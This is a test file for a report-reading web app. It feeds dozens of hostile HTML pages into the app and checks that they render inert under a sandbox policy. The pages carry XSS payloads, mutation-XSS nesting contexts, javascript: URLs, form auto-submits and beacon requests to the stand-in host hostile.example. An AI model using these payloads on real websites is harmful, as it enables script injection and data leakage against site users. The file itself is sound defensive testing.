// Reports are hostile input (35 pages, and 27 ways to run or call in 11 places). Pages made to run script, to call out, and to reach
// the page around them are added; in the reading view and as originals they must
// stay text and pictures of text.
//
//   tests/page/hostile.mjs PROGRAM SOURCE_FOLDER
import { writeFileSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, expectNone, open, outside, run } from "./browser.mjs";

const CALL = "http://hostile.example/";  // Where outside() listens.
const act = "top.hacked=1;parent.hacked=1;window.hacked=1;fetch('" + CALL + "script')";
const PAYLOADS = [
  `<script>${act}</script>`,
  `<script src="${CALL}a.js"></script>`,
  `<img src=x onerror="${act}">`,
  `<img src="${CALL}beacon.png">`,
  `<img srcset="${CALL}a.png 1x, ${CALL}b.png 2x">`,
  `<picture><source srcset="${CALL}p.webp"><img alt=""></picture>`,
  `<svg onload="${act}"><script>${act}</script></svg>`,
  `<svg><image href="${CALL}i.svg"/><use href="${CALL}u.svg#a"/></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text>click</text></a><animate attributeName="href" values="javascript:${act}"/></svg>`,
  `<math><maction actiontype="statusline#${CALL}">x</maction><mtext><script>${act}</script></mtext></math>`,
  `<body onload="${act}">`,
  `<input autofocus onfocus="${act}">`,
  `<details open ontoggle="${act}"><summary>x</summary></details>`,
  `<video autoplay src="${CALL}v.mp4" poster="${CALL}v.png" onerror="${act}"></video>`,
  `<audio autoplay src="${CALL}a.mp3"></audio>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>${act}</script><img src=${CALL}f.png>"></iframe>`,
  `<iframe src="${CALL}frame"></iframe>`,
  `<object data="${CALL}o.swf"></object><embed src="${CALL}e.swf">`,
  `<link rel="stylesheet" href="${CALL}s.css"><link rel="preload" as="image" href="${CALL}p.png"><link rel="prefetch" href="${CALL}n">`,
  `<link rel="dns-prefetch" href="${CALL}"><link rel="icon" href="${CALL}f.ico"><link rel="manifest" href="${CALL}m.json">`,
  `<style>@import url("${CALL}i.css"); body{background:url(${CALL}bg.png)} @font-face{font-family:x;src:url(${CALL}f.woff)} *{font-family:x}</style>`,
  `<p style="background:url(${CALL}p.png);position:fixed;inset:0">covered</p>`,
  `<meta http-equiv="refresh" content="0;url=${CALL}refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${CALL}"><a href="next">next</a>`,
  `<form action="${CALL}form" id="f"><input name="a" value="b"></form><script>f.submit()</script>`,
  `<form id="page"></form><img name="getElementById"><a id="defaultView"></a><form name="document"></form>`,
  `<noscript><p title="</noscript><img src=x onerror='${act}'>"></noscript>`,
  `<template><script>${act}</script></template><textarea></textarea><img src=x onerror="${act}">`,
  `<title>&lt;/title&gt;<img src=x onerror="${act}"></title>`,
  `<a href="javascript:${act}">soldiers</a><a href="data:text/html,<script>${act}</script>" target="_top">tanks</a>`,
  `<button popovertarget="p" formaction="javascript:${act}">go</button><div popover id="p">pop</div>`,
  `<marquee onstart="${act}">x</marquee><isindex onfocus="${act}">`,
  `<xmp><img src=x onerror="${act}"></xmp><plaintext><script>${act}</script>`,
];

// Ways to run or to call, each put into every place below: a page a way.
const WAYS = [
  `<img src=x onerror="${act}">`,
  `<svg onload="${act}"></svg>`,
  `<script>${act}</script>`,
  `<img src="${CALL}w.png">`,
  `<link rel=stylesheet href="${CALL}w.css">`,
  `<style>@import "${CALL}w2.css";</style>`,
  `<iframe src="${CALL}w"></iframe>`,
  `<iframe srcdoc="&lt;script>${act}&lt;/script>"></iframe>`,
  `<object data="${CALL}w.svg"></object>`,
  `<video src="${CALL}w.mp4" autoplay></video>`,
  `<input onfocus="${act}" autofocus>`,
  `<details open ontoggle="${act}">x</details>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='a' onload='${act}'/>#a"></use></svg>`,
  `<math href="javascript:${act}">x</math>`,
  `<div style="background-image:url(${CALL}w3.png)">x</div>`,
  `<body background="${CALL}w4.png" onpageshow="${act}">`,
  `<table background="${CALL}w5.png"><tr><td>x</table>`,
  `<audio src="${CALL}w.ogg" autoplay onerror="${act}"></audio>`,
  `<embed src="${CALL}w6.svg">`,
  `<form action="${CALL}w7"><button autofocus onfocus="${act};this.form.submit()">x</button></form>`,
  `<meta http-equiv=refresh content="1;url=javascript:${act}">`,
  `<a href="javascript:${act}" id=go autofocus onfocus="this.click()">x</a>`,
  `<marquee loop=1 width=0 onfinish="${act}">x</marquee>`,
  `<select autofocus onfocus="${act}"><option>x</select>`,
  `<link rel=modulepreload href="${CALL}w.js"><script type=module src="${CALL}w.js"></script>`,
  `<picture><source srcset="${CALL}w8.png"><img></picture>`,
];
const PLACES = [
  (way) => way,
  (way) => `<noscript>${way}</noscript>`,
  (way) => `<!--><b>${way}-->`,
  (way) => `<svg><foreignObject>${way}</foreignObject></svg>`,
  (way) => `<svg><desc>${way}</desc><title>${way}</title></svg>`,
  (way) => `<math><annotation-xml encoding="text/html">${way}</annotation-xml><mtext>${way}</mtext></math>`,
  (way) => `<table><tr>${way}<td>${way}</table>`,
  (way) => `<template>${way}</template><select><option>${way}</select>`,
  (way) => `<p title="><b>${way.replaceAll('"', "&quot;")}">quoted</p>`,
  (way) => `<![CDATA[${way}]]><?xml ${way} ?>`,
  (way) => `<textarea></textarea>${way}<xmp></xmp>`,
];

let world;
let hearsay;
let page;
let reports;
const folder = mkdtempSync(join(tmpdir(), "hearsay-hostile-"));

await run([
  [`${PAYLOADS.length} hostile pages and ${WAYS.length} ways in ${PLACES.length} places are read`, async () => {
    const pages = [...PAYLOADS, ...WAYS.map((way) => PLACES.map((place) => place(way)).join("<p>A paragraph of words.</p>"))];
    pages.forEach((payload, index) => {
      writeFileSync(
        join(folder, `${String(index).padStart(2, "0")}.html`),
        `<!doctype html><html><head><title>Marker ${index} &lt;img src=x onerror=top.hacked=1&gt;</title></head><body><article><h1>Marker ${index}</h1>` +
          `<p>At least ${index + 10} soldiers were killed in Port Mirel on 3 March 2026, a hospital official said.</p>${payload}` +
          `<p>The words &lt;script&gt;top.hacked=1&lt;/script&gt; and &lt;img src=x onerror="top.hacked=1"&gt; stand here as words.</p></article></body></html>`,
      );
    });
    world = await outside();
    hearsay = await open({ reports: [folder], world });
    page = await hearsay.page();
    reports = await page.evaluate(async () => (await (await fetch("/reports.json?limit=500")).json()).items);
    expect(`all ${pages.length} in the ledger, not ${reports.length}`, reports.length === pages.length);
  }],
  ["in the reading view they are text", async () => {
    for (const report of reports) {
      await page.goto(`${hearsay.address}reports/${report.id}`);
      const text = page.locator(".text");
      await text.waitFor();
      const shown = await text.textContent();
      expect(`the report's words in ${report.id}`, shown.includes("hospital official"));
      const strange = await text.evaluate((root) => [...root.querySelectorAll("*")].filter((one) => !["DIV", "SPAN"].includes(one.tagName)).map((one) => one.tagName));
      expectNone(`elements of a report in the page (${report.id})`, strange);
      expect(`nothing to run in ${report.id}`, (await page.evaluate(() => globalThis.hacked)) === undefined);
    }
  }],
  ["as originals they show, and do nothing", async () => {
    let shown = 0;
    for (const report of reports) {
      await page.goto(`${hearsay.address}reports/${report.id}?original=1`);
      const answer = page.waitForResponse((response) => response.url().endsWith("/original"));
      await page.reload();
      const response = await answer;
      expect(`the original of ${report.id} to be served`, response.status() === 200);
      expect("the policy of originals", (response.headers()["content-security-policy"] ?? "").startsWith("sandbox; default-src 'none'"));
      await page.waitForTimeout(120);
      const frame = page.frames().find((one) => one.url().endsWith("/original"));
      if (frame) {
        const words = await frame.evaluate(() => document.documentElement.textContent).catch(() => "");
        if (words.includes("hospital official")) shown += 1;
      }
      expect(`nothing to run in ${report.id}`, (await page.evaluate(() => globalThis.hacked)) === undefined);
      expect("the page to be still there", (await page.locator(".text").count()) === 1);
    }
    expect(`originals to be shown, not only ${shown}`, shown >= reports.length - 3);
  }],
  ["opened by itself, an original does nothing either", async () => {
    for (const report of reports) {
      await page.goto(`${hearsay.address}reports/${report.id}/original`).catch(() => {});
      await page.waitForTimeout(60);
      expect(`${report.id} to stay here`, new URL(page.url()).origin === new URL(hearsay.address).origin);
    }
  }],
  ["nobody else was asked for anything", () => expectNone("requests", world.asked)],
  ["and the same pages do ask where nothing holds them", async () => {
    const bare = await page.context().newPage();
    await bare.goto(`${CALL}control`);
    await bare.setContent(PAYLOADS[3] + PAYLOADS[19] + PAYLOADS[0], { waitUntil: "load" });
    await bare.waitForTimeout(300);
    const found = world.asked.filter((one) => !one.endsWith("/control"));
    expect(`a beacon, a style sheet and a script to call out, not ${found}`, ["/beacon.png", "/s.css", "/script"].every((end) => found.some((one) => one.endsWith(end))));
  }],
]);
await hearsay?.close();
world?.close();
rmSync(folder, { recursive: true, force: true });
